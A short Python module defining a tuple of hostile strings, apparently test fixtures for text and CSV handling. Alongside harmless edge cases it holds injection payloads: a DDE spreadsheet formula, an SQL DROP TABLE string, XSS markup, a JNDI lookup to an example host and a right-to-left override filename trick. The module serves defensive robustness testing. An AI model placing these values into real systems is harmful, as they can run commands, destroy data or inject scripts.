"""Texts that harm whoever takes them for something else than text."""

from __future__ import annotations

from typing import Final

HOSTILE: Final = (
    'say "please", twice""',
    "a,b,,c",
    "carriage\r\nreturn",
    "\nlines\n\nwithin\n",
    "only\rreturn",
    "nul\0within",
    "\0",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "+1-1",
    "<script>alert(1)</script>&amp;",
    "long " * 400 + "end",
    "\u202egnp.exe",
    "\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067",
    "e\u0301\u0327" + "\u0316" * 40,
    "C:\\new\\table\\",
    '","',
    '\\","',
    '"',
    "'; DROP TABLE records; --",
    "  blanks around\t ",
    "-",
    "",
    "NULL",
    "NaN",
    "007",
    "\u2028line\u2029paragraph\x85\x0b\x0c",
    "\ufeffmark",
    "\x1b[31mred\x1b[0m\x7f",
    "${jndi:ldap://example.org/a}%s%n{0}",
    "[x](javascript:alert(1))",
    "\U0010ffff\uffff",
)
"""Quotes, separators, line ends, NUL, formulas, markup, length, directions, combined characters,
backslashes, SQL, blanks, the marks of a missing cell, words that readers take for numbers."""
